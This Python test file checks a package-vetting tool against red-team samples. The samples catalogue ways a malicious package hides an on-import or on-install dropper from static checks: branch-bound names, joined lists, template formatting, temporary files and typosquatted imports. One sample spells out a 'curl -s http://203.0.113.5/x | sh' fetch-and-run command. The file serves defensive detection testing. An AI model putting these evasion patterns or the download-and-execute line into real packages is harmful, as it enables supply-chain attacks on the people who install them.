"""A second red-team pass (issue 16; ADR 0162): what an attacker who has read ADRs 0154-0161
tries next, each closed by a general reading of the flow pass, not a pattern.

* The dropper kept in a name bound in one branch of an ``if`` (or a ``try``) with a harmless
  value in the other: the name may hold either string after the statement
  (:mod:`eitherway`).
* A list held in a name or grown by ``.append``/``.extend``, then joined: the list keeps its
  items' known text (:mod:`listtext`).
* A template filled by name (``.format(c=…)``, ``.format_map({…})``, ``'%(c)s' % {…}``,
  ``string.Template(…).substitute(…)``): filled with the items' known text
  (:mod:`namedfill`).
* A slice from the start of a built string (``(P + x)[0:]``): it keeps its start.
* A temporary file (``NamedTemporaryFile``, ``mkstemp``, ``mkdtemp``) written, then run: its
  name folds to a stand-in path (:mod:`tempname`).
* A platform switch with something added (``(A if win else B) + x``): ``+`` keeps each
  alternative.
* A look-alike import in a class body or in a function called at the top level: it runs on
  every import, as a top-level one (:mod:`eagerimport`).

Near-misses a real package writes stay allowed. Each sample is inert: vetting only reads
files."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import (
    X,
    built,
    init,
    on_import,
    on_install,
    verdict_cases,
    vet_package,
)

TEMP_PY = (
    "import tempfile\nf = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
    "f.write(P)\nf.close()\n"
)

DENIED: dict[str, dict[str, str]] = {
    # Either branch.
    "command-bound-in-the-first-branch": on_import(
        "if os.name == 'posix':\n    cmd = CURL\nelse:\n    cmd = 'ver'\nos.system(cmd)\n"
    ),
    "payload-bound-in-the-first-branch": on_import(
        "if sys.version_info[0] >= 3:\n    code = P\nelse:\n    code = 'pass'\nexec(code)\n"
    ),
    # Forty names bound before the payload's in its branch (review: past the old cap of 32
    # no name was followed).
    "payload-bound-after-forty-names": on_import(
        "if sys.version_info[0] >= 3:\n"
        + "".join(f"    v{i} = {i}\n" for i in range(40))
        + "    code = P\nelse:\n    code = 'pass'\nexec(code)\n"
    ),
    "payload-bound-in-a-try-body": on_import(
        "try:\n    code = P\nexcept Exception:\n    code = 'pass'\nexec(code)\n"
    ),
    "command-bound-before-an-if-without-else": on_import(
        "cmd = CURL\nif os.name == 'nt':\n    cmd = 'ver'\nos.system(cmd)\n"
    ),
    "command-bound-in-the-first-of-three-branches-in-setup-py": on_install(
        "if os.name == 'posix':\n    cmd = CURL\nelif os.name == 'java':\n    cmd = 'true'\n"
        "else:\n    cmd = 'ver'\nsubprocess.call(cmd, shell=True)\n"
    ),
    "payload-bound-in-the-first-branch-in-a-function-called": on_import(
        "def go():\n    if sys.version_info[0] >= 3:\n        code = P\n    else:\n"
        "        code = 'pass'\n    exec(code)\ngo()\n"
    ),
    "command-unpacked-in-the-first-branch": on_import(
        "if os.name == 'posix':\n    cmd, arg = CURL, ''\nelse:\n    cmd, arg = 'ver', ''\n"
        "os.system(cmd)\n"
    ),
    "command-bound-in-the-first-case-of-a-match": on_import(
        "match os.name:\n    case 'posix':\n        cmd = CURL\n    case _:\n        cmd = 'ver'\n"
        "os.system(cmd)\n"
    ),
    # A list kept in a name, then joined.
    "payload-appended-then-joined": on_import(
        f"parts = []\nparts.append(P)\nparts.append({X})\nexec(''.join(parts))\n"
    ),
    "payload-listed-in-a-name-then-joined": on_import(f"parts = [P, {X}]\nexec(''.join(parts))\n"),
    "payload-inserted-then-joined": on_import(
        f"parts = [{X}]\nparts.insert(0, P)\nexec(''.join(parts))\n"
    ),
    "payload-extended-then-joined-by-lines": on_import(
        f"parts = []\nparts.extend([P, {X}])\nexec('\\n'.join(parts))\n"
    ),
    "command-listed-with-an-argument-then-joined": on_import(
        f"parts = [CURL] + [{X}]\nos.system(' '.join(parts))\n"
    ),
    # Templates filled by name.
    "command-formatted-by-name": on_import(f"os.system('{{c}} {{x}}'.format(c=CURL, x={X}))\n"),
    "command-written-in-a-template-formatted-by-name": on_import(
        "os.system('{c} {u} | sh'.format(c='curl -s', u='http://203.0.113.5/x'))\n"
    ),
    "payload-formatted-by-name": on_import(f"exec('{{p}}{{x}}'.format(p=P, x={X}))\n"),
    "command-format-mapped": on_import(
        f"cmd = '{{c}} {{x}}'.format_map({{'c': CURL, 'x': {X}}})\nos.system(cmd)\n"
    ),
    "command-percent-formatted-by-name": on_import(
        f"os.system('%(c)s %(x)s' % {{'c': CURL, 'x': {X}}})\n"
    ),
    "payload-percent-formatted-by-name-into-a-variable": on_import(
        f"code = '%(p)s%(x)s' % {{'p': P, 'x': {X}}}\nexec(code)\n"
    ),
    "command-substituted-in-a-string-template": on_import(
        f"import string\nos.system(string.Template('$c $x').substitute(c=CURL, x={X}))\n"
    ),
    "payload-safely-substituted-in-a-template": on_import(
        "from string import Template\ncode = Template('${p}').safe_substitute(p=P)\nexec(code)\n"
    ),
    # A slice from the start.
    "payload-sliced-from-the-start": on_import(f"exec((P + {X})[0:])\n"),
    "command-sliced-into-a-variable": on_import(f"cmd = (CURL + ' ' + {X})[:]\nos.system(cmd)\n"),
    "payload-sliced-to-its-length": on_import(f"code = (P + {X})[:len(P)]\nexec(code)\n"),
    # A temporary file.
    "payload-in-a-temporary-file-run-by-the-interpreter": on_import(
        TEMP_PY + "subprocess.call([sys.executable, f.name])\n"
    ),
    "payload-in-a-temporary-file-run-by-runpy": on_import(
        "import runpy\n" + TEMP_PY + "runpy.run_path(f.name)\n"
    ),
    "payload-in-a-temporary-file-opened-by-with": on_import(
        "import tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as f:\n"
        "    f.write(P)\nsubprocess.Popen([sys.executable, f.name])\n"
    ),
    "payload-in-a-temporary-file-in-setup-py": on_install(
        TEMP_PY + "subprocess.check_call([sys.executable, f.name])\n"
    ),
    "payload-in-mkstemp-s-file": on_import(
        "import tempfile\nfd, path = tempfile.mkstemp(suffix='.py')\n"
        "with os.fdopen(fd, 'w') as f:\n    f.write(P)\nsubprocess.call([sys.executable, path])\n"
    ),
    "payload-in-a-temporary-folder": on_import(
        "import tempfile\np = os.path.join(tempfile.mkdtemp(), 'x.py')\n"
        "open(p, 'w').write(P)\nsubprocess.call([sys.executable, p])\n"
    ),
    "payload-in-the-temporary-folder-named-twice": on_import(
        "import tempfile\nopen(os.path.join(tempfile.gettempdir(), 'x.py'), 'w').write(P)\n"
        "subprocess.call([sys.executable, os.path.join(tempfile.gettempdir(), 'x.py')])\n"
    ),
    "payload-in-a-temporary-folder-as-a-path": on_import(
        "import tempfile, pathlib\np = pathlib.Path(tempfile.mkdtemp()) / 'x.py'\n"
        "p.write_text(P)\nsubprocess.call([sys.executable, str(p)])\n"
    ),
    # A platform switch with something added.
    "command-picked-by-platform-then-added-to": on_import(
        f"cmd = (CURL if os.name == 'posix' else 'ver') + {X}\nsubprocess.Popen(cmd, shell=True)\n"
    ),
    "payload-picked-by-version-then-added-to": on_import(
        f"exec((P if sys.version_info[0] >= 3 else 'pass') + {X})\n"
    ),
    "command-looked-up-by-platform-then-added-to": on_import(
        f"CMDS = {{'linux': CURL, 'win32': 'ver'}}\nos.system(CMDS[sys.platform] + ' ' + {X})\n"
    ),
}

HELD: dict[str, dict[str, str]] = {
    "look-alike-imported-in-a-function-called-on-import": init(
        "def go():\n    import reqeusts\n    return reqeusts\ngo()\n"
    ),
    "look-alike-imported-from-in-a-function-called-on-import": init(
        "def go():\n    from reqeusts import get\n    return get\nGET = go()\n"
    ),
    "look-alike-imported-in-a-class-body": init("class Client:\n    import reqeusts\n"),
}

ALLOWED: dict[str, dict[str, str]] = {
    "make-command-picked-by-platform-in-setup-py": built(
        "if sys.platform == 'win32':\n    cmd = 'cmake --build build --config Release'\n"
        "else:\n    cmd = 'make -C src'\nsubprocess.check_call(cmd, shell=True)\n"
    ),
    "screen-cleared-by-platform-when-called": init(
        "import os\ndef clear():\n    if os.name == 'nt':\n        cmd = 'cls'\n    else:\n"
        "        cmd = 'clear'\n    os.system(cmd)\n"
    ),
    "reraise-picked-by-version-and-exec-d": init(
        "import sys\nif sys.version_info[0] == 2:\n"
        "    src = 'def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n'\n"
        "else:\n"
        "    src = 'def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n'\n"
        "exec(src)\n"
    ),
    "compiler-flags-appended-and-joined-in-setup-py": built(
        "parts = ['cc', '-O2']\nparts.append(os.environ.get('CFLAGS', ''))\n"
        "parts.append('-c probe.c')\nos.system(' '.join(parts))\n"
    ),
    "git-describe-formatted-by-name-in-setup-py": built(
        "ref = os.environ.get('REF', 'HEAD')\n"
        "out = subprocess.check_output('git describe --tags {ref}'.format(ref=ref), shell=True)\n"
    ),
    "compiler-command-in-a-string-template-in-setup-py": built(
        "import string\nflags = os.environ.get('CFLAGS', '')\n"
        "os.system(string.Template('cc $flags -c probe.c').substitute(flags=flags))\n"
    ),
    "accessor-formatted-by-name-and-exec-d": init(
        "import sys\nT = 'def get_{name}(self):\\n    return self._d[{name!r}]\\n'\n"
        "for n in sys.argv[1:]:\n    exec(T.format(name=n))\n"
    ),
    "compiler-command-sliced-in-setup-py": built(
        "cmd = ('cc -c probe.c ' + os.environ.get('CFLAGS', ''))[:400]\nos.system(cmd)\n"
    ),
    "c-probe-in-a-temporary-file-compiled-in-setup-py": built(
        "import tempfile\n"
        "with tempfile.NamedTemporaryFile('w', suffix='.c', delete=False) as f:\n"
        "    f.write('int main(void) { return 0; }\\n')\n"
        "ok = subprocess.call(['cc', f.name, '-o', os.devnull]) == 0\n"
    ),
    "script-in-a-temporary-file-run-by-python-in-setup-py": built(
        "import tempfile\nf = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
        "f.write('print(42)\\n')\nf.close()\nsubprocess.check_call([sys.executable, f.name])\n"
    ),
    "screen-cleared-by-platform-with-an-argument-when-called": init(
        "import os, sys\ndef clear():\n"
        "    os.system(('cls' if os.name == 'nt' else 'clear') + ' ' + sys.argv[0][:0])\n"
    ),
    "winreg-imported-in-a-try": init(
        "try:\n    import _winreg as winreg\nexcept ImportError:\n    import winreg\n"
    ),
    "jarray-imported-on-jython": init(
        "import sys\nif sys.platform.startswith('java'):\n    import jarray\n"
    ),
    "look-alike-imported-in-a-function-not-called": init(
        "def background():\n    import docket\n    return docket\n"
    ),
    "look-alike-imported-in-a-method": init(
        "class Worker:\n    def run(self):\n        import docket\n        return docket\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_second_red_team(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
